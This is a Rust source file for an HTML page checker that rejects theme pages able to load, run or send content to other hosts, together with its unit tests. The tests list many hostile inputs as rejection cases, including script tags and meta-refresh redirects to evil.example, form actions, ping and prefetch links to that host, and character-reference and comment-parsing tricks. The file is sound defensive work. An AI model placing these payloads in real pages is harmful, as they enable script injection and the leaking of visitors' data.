//! The last look at a finished page: nothing may load from elsewhere, run, or send to elsewhere.
//!
//! The content policy says the same to the browser; this says it to the owner of a theme, and
//! holds where the policy cannot: pages whose forms lead on to an application have no
//! `form-action` (security.md R20). It reads tags as browsers do (HTML §13.2.5) and knows only
//! the elements below, so that nothing changes the way the rest is read.

use super::functions::is_local;

const ELEMENTS: [&str; 76] = [
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "b",
    "blockquote",
    "body",
    "br",
    "button",
    "circle",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "defs",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "ellipse",
    "em",
    "fieldset",
    "figcaption",
    "figure",
    "footer",
    "form",
    "g",
    "h1",
    "h2",
    "h3",
    "h4",
    "head",
    "header",
    "hr",
    "html",
    "i",
    "img",
    "input",
    "kbd",
    "label",
    "legend",
    "li",
    "line",
    "link",
    "main",
    "mark",
    "meta",
    "nav",
    "ol",
    "option",
    "p",
    "path",
    "polygon",
    "polyline",
    "pre",
    "rect",
    "section",
    "select",
    "small",
    "span",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "svg",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "time",
    "title",
];
const MORE_ELEMENTS: [&str; 5] = ["tfoot", "tr", "u", "ul", "caption"];
const ATTRIBUTES_NEVER: [&str; 11] = [
    "style",
    "formaction",
    "formmethod",
    "srcdoc",
    "http-equiv",
    "ping",
    "srcset",
    "imagesrcset",
    "background",
    "attributionsrc",
    "referrerpolicy",
];

/// Says what a page holds that no page may hold; otherwise, where the inside of each form begins.
/// `forms` is how many forms were opened by our own function, `inline_style` the only style a
/// page may carry.
pub(super) fn check(
    html: &str,
    forms: usize,
    inline_style: Option<&str>,
) -> Result<Vec<usize>, String> {
    let mut look = Look { forms: Vec::new(), length: html.len(), in_body: false, inline_style };
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        rest = look.markup(after)?;
    }
    if look.forms.len() == forms { Ok(look.forms) } else { Err(foreign_form()) }
}

struct Look<'a> {
    forms: Vec<usize>,
    length: usize,
    in_body: bool,
    inline_style: Option<&'a str>,
}

struct Tag<'a> {
    name: String,
    attributes: Vec<(String, &'a str)>,
    rest: &'a str,
}

impl Look<'_> {
    /// Reads what follows a `<` and returns the text behind it.
    fn markup<'a>(&mut self, after: &'a str) -> Result<&'a str, String> {
        if let Some(comment) = after.strip_prefix("!--") {
            return comment_end(comment);
        }
        if after.get(..9).is_some_and(|start| start.eq_ignore_ascii_case("!doctype ")) {
            return after.split_once('>').map(|(_, rest)| rest).ok_or_else(unfinished);
        }
        if after.starts_with(['!', '?']) {
            return Err("`<!` opens nothing but a comment".to_owned());
        }
        if let Some(closing) = after.strip_prefix('/') {
            // Anything else after `</` is a comment to browsers, which ends inside quotes too.
            let is_tag = closing.starts_with(|c: char| c.is_ascii_alphabetic());
            return if is_tag { tag(closing).map(|tag| tag.rest) } else { Err(nameless()) };
        }
        if !after.starts_with(|c: char| c.is_ascii_alphabetic()) {
            return Ok(after);
        }
        let tag = tag(after)?;
        self.element(&tag)?;
        for (name, value) in &tag.attributes {
            attribute(&tag.name, name, value)?;
        }
        match tag.name.as_str() {
            "script" => empty(&tag),
            "style" | "title" => self.raw(&tag),
            _ => Ok(tag.rest),
        }
    }

    fn element(&mut self, tag: &Tag<'_>) -> Result<(), String> {
        let name = tag.name.as_str();
        // A script is a file of the theme, and pages on other hosts have none.
        let script = name == "script" && self.inline_style.is_none() && is_asset(tag);
        if !script && !ELEMENTS.contains(&name) && !MORE_ELEMENTS.contains(&name) {
            return Err(format!("a page holds no <{name}> element"));
        }
        if self.in_body && matches!(name, "style" | "title" | "link" | "meta" | "script") {
            return Err(format!("<{name}> belongs into the head"));
        }
        self.in_body |= matches!(name, "body" | "svg");
        if name == "meta" && tag.attributes.iter().any(|(name, value)| hides_name(name, value)) {
            return Err("the name of a <meta> is written without `&`".to_owned());
        }
        if name == "meta" && says(tag, "name", "referrer") {
            return Err("a page tells nobody where a person came from".to_owned());
        }
        if name == "form" && !says(tag, "method", "post") {
            return Err(foreign_form());
        }
        if name == "form" {
            self.forms.push(self.length.saturating_sub(tag.rest.len()));
        }
        Ok(())
    }

    /// The text of `<style>` and `<title>` holds no tags, and here no `<` either.
    fn raw<'a>(&self, tag: &Tag<'a>) -> Result<&'a str, String> {
        let (text, end) = tag.rest.split_once('<').ok_or_else(unfinished)?;
        if tag.name == "style" && self.inline_style != Some(text) {
            return Err(
                "a page carries no style of its own; put it into a file in `themes/`".into()
            );
        }
        let end = end.strip_prefix('/').map(|end| cut(end, |c| c == '>'));
        match end {
            Some((name, rest)) if name.eq_ignore_ascii_case(&tag.name) => {
                rest.strip_prefix('>').ok_or_else(unfinished)
            }
            _ => Err(format!("<{}> holds text only", tag.name)),
        }
    }
}

/// The text of `<script>` is code, so there is none.
fn empty<'a>(tag: &Tag<'a>) -> Result<&'a str, String> {
    tag.rest.strip_prefix("</script>").ok_or_else(|| {
        "a script stands in a file of its own, and `</script>` follows at once".to_owned()
    })
}

fn is_asset(tag: &Tag<'_>) -> bool {
    let mut sources = tag.attributes.iter().filter(|(name, _)| name == "src");
    let ours = |src: &str| src.starts_with("/assets/") && !src.contains('&') && !src.contains("..");
    sources.next().is_some_and(|(_, src)| ours(src)) && sources.next().is_none()
}

fn attribute(element: &str, name: &str, value: &str) -> Result<(), String> {
    if name.starts_with("on") || ATTRIBUTES_NEVER.contains(&name) {
        return Err(format!("a page holds no `{name}` attribute"));
    }
    let loads = name == "src" || name == "xlink:href" || (name == "href" && element == "link");
    if loads && !stays_here(value) {
        return Err(format!("<{element}> loads `{value}`, which is not a file of this theme"));
    }
    if element == "form" && name == "action" && !stays_here(value) {
        return Err(foreign_form());
    }
    Ok(())
}

/// Of an attribute that is written twice, browsers read the first.
fn says(tag: &Tag<'_>, name: &str, wanted: &str) -> bool {
    let value = tag.attributes.iter().find(|(known, _)| known == name).map(|(_, value)| *value);
    value.is_some_and(|value| value.eq_ignore_ascii_case(wanted))
}

/// A character reference may spell a name that is refused.
fn hides_name(attribute: &str, value: &str) -> bool {
    attribute == "name" && value.contains('&')
}

fn nameless() -> String {
    "`</` is followed by the name of an element".to_owned()
}

fn foreign_form() -> String {
    "a form must be opened with `form_open(action)`".to_owned()
}

/// A path on this host as it stands in the page: a character reference may hide a second slash.
fn stays_here(value: &str) -> bool {
    is_local(value) && !value.starts_with("/&")
}

fn comment_end(comment: &str) -> Result<&str, String> {
    let (text, rest) = comment.split_once("-->").ok_or_else(unfinished)?;
    let early = text.starts_with('>') || text.starts_with("->") || text.contains("--!>");
    if early { Err("a comment ends with `-->`".to_owned()) } else { Ok(rest) }
}

fn tag(text: &str) -> Result<Tag<'_>, String> {
    let (name, mut rest) = cut(text, |c| is_space(c) || c == '/' || c == '>');
    let mut attributes = Vec::new();
    loop {
        rest = rest.trim_start_matches(|c| is_space(c) || c == '/');
        if let Some(rest) = rest.strip_prefix('>') {
            return Ok(Tag { name: name.to_ascii_lowercase(), attributes, rest });
        }
        if rest.is_empty() {
            return Err(unfinished());
        }
        let (name, after) = attribute_name(rest);
        let (value, after) = attribute_value(after)?;
        attributes.push((name, value));
        rest = after;
    }
}

/// An attribute's name may begin with `=`.
fn attribute_name(text: &str) -> (String, &str) {
    let head = if text.starts_with('=') { "=" } else { "" };
    let (tail, rest) = cut(text.strip_prefix(head).unwrap_or(text), |c| {
        is_space(c) || matches!(c, '/' | '>' | '=')
    });
    (format!("{head}{tail}").to_ascii_lowercase(), rest)
}

fn attribute_value(text: &str) -> Result<(&str, &str), String> {
    let Some(value) = text.trim_start_matches(is_space).strip_prefix('=') else {
        return Ok(("", text));
    };
    let value = value.trim_start_matches(is_space);
    for quote in ['"', '\''] {
        if let Some(quoted) = value.strip_prefix(quote) {
            return quoted.split_once(quote).ok_or_else(unfinished);
        }
    }
    Ok(cut(value, |c| is_space(c) || c == '>'))
}

fn cut(text: &str, ends: impl Fn(char) -> bool) -> (&str, &str) {
    text.split_at(text.find(ends).unwrap_or(text.len()))
}

fn is_space(c: char) -> bool {
    matches!(c, ' ' | '\t' | '\n' | '\r' | '\x0c')
}

fn unfinished() -> String {
    "the page ends inside a tag".to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_ordinary_page_passes() {
        let page = "<!doctype html><html lang=\"en\"><head><title>a &lt; b</title>\
                    <link rel=stylesheet href='/assets/a.css'></head>\
                    <body><!-- <form> --><p class=x>1 < 2<br/><a href=\"https://a.example\">a</a>\
                    <form method=\"post\"><input value=\"<form style=x>\"></form></body></html>";
        let inside = page.find("<input").unwrap();
        assert_eq!(check(page, 1, None), Ok(vec![inside]));
    }

    #[test]
    fn a_script_is_a_file_of_this_host_in_the_head() {
        let page = |head: &str| format!("<html><head>{head}</head><body></body></html>");
        let good = page("<script src=\"/assets/a.js\" defer></script>");
        assert_eq!(check(&good, 0, None), Ok(Vec::new()));
        assert!(check(&good, 0, Some("body{}")).is_err(), "on an application's host");
        for bad in [
            "<script></script>",
            "<script>alert(1)</script>",
            "<script src=\"/own-script.js\"></script>",
            "<script src=\"/assets/../sign-in\"></script>",
            "<script src=\"/assets/a.js\" src=\"/b.js\"></script>",
            "<script src=\"/assets/a.js\">alert(1)</script>",
            "<script src=\"//evil.example/a.js\"></script>",
            "<script src=\"/&#47;evil.example/a.js\"></script>",
            "<script src=\"https://evil.example/a.js\"></script>",
            "<script src=\"data:text/javascript,alert(1)\"></script>",
            "<script src=\"/assets/a.js\" onload=alert(1)></script>",
        ] {
            assert!(check(&page(bad), 0, None).is_err(), "{bad}");
        }
    }

    /// security.md R20
    #[test]
    fn what_could_send_something_out_is_refused() {
        for page in [
            "<script>",
            "<SCRIPT src=/x>",
            "<iframe>",
            "<base href=/x>",
            "<textarea>",
            "<noscript>",
            "<p onclick=x>",
            "<p style=x>",
            "<p\nSTYLE = 'x'>",
            "<button formaction='https://evil.example'>",
            "<meta http-equiv=refresh>",
            "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
            "<meta name=referrer content=unsafe-url>",
            "<meta name='Referrer' name=x>",
            "<meta name='&#114;eferrer' content=unsafe-url>",
            "<meta name=referre&#x72 content=unsafe-url>",
            "</ a='><form method=post action=https://evil.example>'>",
            "</'><script>'>",
            "</><form method=post>",
            "<body background=https://evil.example/>",
            "<table BACKGROUND='https://evil.example/'>",
            "<a href=/ ping=https://evil.example/>",
            "<a href=/ attributionsrc=https://evil.example/>",
            "<a href=https://evil.example/ referrerpolicy=unsafe-url>",
            "<button formmethod=get>",
            "<link rel=preconnect href=https://evil.example/>",
            "<link rel=dns-prefetch href=//evil.example/>",
            "<link rel=prefetch href=\thttps://evil.example/>",
            "<link rel=preload as=image imagesrcset=https://evil.example/>",
            "<object data=https://evil.example/>",
            "<embed src=https://evil.example/>",
            "<svg><image href=https://evil.example/></svg>",
            "<svg><use href=https://evil.example/#a></svg>",
            "<img src='https://evil.example/?x'>",
            "<img src=//evil.example>",
            "<img/src=https://evil.example/>",
            "<link rel=stylesheet href='https://evil.example/a.css'>",
            "<form action='https://evil.example'>",
            "<body><style>a{}</style>",
            "<style>a{}</style>",
            "<svg><title>a</title></svg><title>b</title>",
            "<title>a</TITLE ><script></title>",
            "<title><!--</title><script>--></title>",
            "<img src='/&#47;evil.example'>",
            "<!-- <form> --><form action='https://evil.example'>",
            "<form action='/&sol;evil.example'>",
            "<!--><script>-->",
            "<![CDATA[<script>]]>",
            "<p title='",
        ] {
            assert!(check(page, 0, None).is_err(), "{page}");
        }
    }

    /// security.md R20: the token is put into forms that were opened by our function, and whoever
    /// calls it inside an attribute or for a form of another method has opened none.
    #[test]
    fn a_form_posts_and_stands_where_a_browser_sees_it() {
        for page in [
            "<a href='https://evil.example/?<form method=post action=/x>'>a</a>",
            "<form action=/x>",
            "<form method=get method=post>",
            "<form method=dialog>",
        ] {
            assert!(check(page, 1, None).is_err(), "{page}");
        }
        assert_eq!(check("<FORM Method=POST><p>", 1, None), Ok(vec![18]));
    }

    #[test]
    fn the_inline_style_is_the_one_whose_digest_the_policy_names() {
        assert_eq!(check("<style>a{}</style>", 0, Some("a{}")), Ok(vec![]));
        assert!(check("<style>a{}b{}</style>", 0, Some("a{}")).is_err());
    }
}
